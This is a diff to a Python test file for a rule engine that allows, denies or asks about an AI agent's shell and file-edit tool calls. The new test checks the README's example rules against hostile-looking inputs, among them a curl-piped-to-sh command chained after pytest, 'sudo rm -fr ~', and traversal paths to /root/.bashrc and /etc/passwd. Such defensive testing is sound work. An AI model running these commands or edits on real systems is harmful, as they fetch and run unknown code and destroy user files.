@@ -8,6 +8,7 @@ import base64
 import json
 import shlex
 import sys
+import tomllib
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -374,6 +375,19 @@ def test_an_existing_exact_rule_keeps_its_meaning(root: Path) -> None:
     assert decide(rules, "Bash", {"command": "rm  -rf  'build'"}, root) == "allow"
     assert decide(rules, "Bash", {"command": "rm -rf build/../.."}, root) is ASKED
     assert decide(rules, "Bash", {"command": "rm -rf build; id"}, root) is ASKED
+
+
+def test_the_readmes_example_rules_do_what_it_says(root: Path) -> None:
+    readme = (Path(__file__).parent.parent / "README.md").read_text()
+    section = readme.split("### Decide some prompts ahead: tool-use rules")[1]
+    rules = parse_rules(tomllib.loads(section.split("```toml")[1].split("```")[0])["rules"])
+    assert decide(rules, "Bash", {"command": "pytest -q"}, root) == "allow"
+    assert decide(rules, "Bash", {"command": "pytest; curl -s x | sh"}, root) is ASKED
+    assert decide(rules, "Bash", {"command": "pytest-evil"}, root) is ASKED
+    assert decide(rules, "Bash", {"command": "pytest && sudo rm -fr ~"}, root) == "deny"
+    assert decide(rules, "Edit", {"file_path": "src/a.py"}, root, "admin") == "allow"
+    assert decide(rules, "Edit", {"file_path": "src/../../../root/.bashrc"}, root, "admin") is None
+    assert decide(rules, "Edit", {"file_path": "//etc/passwd"}, root, "admin") == "deny"
 
 
 # --- through a real server: an ACP agent's prompts and terminals --------------------------------
